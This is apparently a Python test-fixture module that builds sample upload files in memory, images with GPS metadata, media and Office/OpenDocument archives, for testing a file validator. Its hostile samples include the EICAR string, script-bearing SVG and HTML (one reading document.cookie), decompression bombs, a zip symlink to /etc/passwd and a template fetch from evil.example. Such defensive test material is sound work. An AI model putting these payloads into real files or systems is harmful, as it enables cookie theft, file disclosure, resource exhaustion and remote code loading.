"""Files of every kind, good and hostile, made here: no binary lies in the repository."""

import io
import struct
import zipfile
import zlib

import pillow_heif
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def picture(kind="JPEG", size=(64, 48), *, place=True, turned=False, mode="RGB", **options):
    """A photo with, unless asked otherwise, the place where it was taken in it."""
    image = Image.new(mode, size, "teal" if mode in {"RGB", "RGBA"} else 128)
    exif = Image.Exif()
    exif[0x010F] = "Telephone"
    if turned:
        exif[0x0112] = 6
    if place:
        exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 5.0, 30.0), 3: "E", 4: (5.0, 7.0, 10.0)})
    output = io.BytesIO()
    if kind != "GIF":
        options["exif"] = exif.tobytes()
    image.save(output, format=kind, **options)
    return output.getvalue()


def heic(size=(64, 48)):
    pillow_heif.register_heif_opener()
    return picture("HEIF", size)


def moving_gif():
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "teal", "gold")]
    output = io.BytesIO()
    frames[0].save(output, format="GIF", save_all=True, append_images=frames[1:])
    return output.getvalue()


def huge_png(width=40_000, height=40_000):
    """Says that it is enormous, in a few hundred bytes."""

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 100_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def huge_jpeg(width=40_000, height=40_000):
    """A small JPEG whose header says otherwise."""
    content = bytearray(picture("JPEG", place=False))
    place = content.index(b"\xff\xc0")
    content[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def box(kind, *content):
    body = b"".join(content)
    return struct.pack(">I", 8 + len(body)) + kind + body


def movie(brand=b"isom", handlers=(b"vide", b"soun"), *, place=b"+52.09+005.12/", size=1000):
    """A film without pictures in it, whole as a file, with the place where it was made."""

    def track(handler):
        return box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + handler + bytes(12))))

    telling = box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(place), 0) + place))
    tracks = b"".join(track(handler) for handler in handlers)
    return (
        box(b"ftyp", brand + bytes(4) + brand)
        + box(b"mdat", bytes(size))
        + box(b"moov", box(b"mvhd", bytes(100)), tracks, telling)
    )


def mp3(frames=5):
    return (
        b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + (b"\xff\xfb\x90\x00" + bytes(413)) * frames
    )


def ogg():
    return b"OggS\x00\x02" + bytes(20) + b"\x01\x13" + b"OpusHead" + bytes(200)


def webm(codec=b"V_VP9"):
    return b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm" + bytes(60) + codec + bytes(500)


CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
MAIN = "application/vnd.openxmlformats-officedocument.{}.main+xml"


def office(main="wordprocessingml.document", extra=(), *, content_type=None, text="<w>Hallo</w>"):
    """`extra`: (name or ZipInfo, content) of more entries."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        types = CONTENT_TYPES.format(content_type or MAIN.format(main))
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", text)
        for name, content in extra:
            archive.writestr(name, content)
    return output.getvalue()


def open_document(kind="text", extra=()):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        archive.writestr("content.xml", "<office>Hallo</office>", zipfile.ZIP_DEFLATED)
        for name, content in extra:
            archive.writestr(name, content)
    return output.getvalue()


def bomb(size=400):
    """A document of so many megabytes of nothing in well under one."""
    return office(extra=[("word/media/nothing.bin", bytes(size * 1024 * 1024))])


def lying_bomb():
    """Says that a part of 50 MB has 100 bytes."""
    content = bytearray(office(extra=[("word/large.xml", b"<a>" + bytes(50 * 1024 * 1024))]))
    real = struct.pack("<I", 3 + 50 * 1024 * 1024)
    while (place := content.find(real)) >= 0:
        content[place : place + 4] = struct.pack("<I", 100)
    return bytes(content)


def crowd(entries=5000):
    return office(extra=[(f"word/part{number}.xml", b"") for number in range(entries)])


def locked():
    """Every entry marked as locked with a password."""
    content = bytearray(office())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := content.find(signature, start)) >= 0:
            content[found + place] |= 1
            start = found + 4
    return bytes(content)


def symlink_document():
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    return office(extra=[(link, b"/etc/passwd")])


def fetching(target="https://evil.example/t.dotm", kind="attachedTemplate"):
    relation = (
        f'<Relationships><Relationship Id="r1" Type="http://x/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return office(extra=[("word/_rels/settings.xml.rels", relation)])
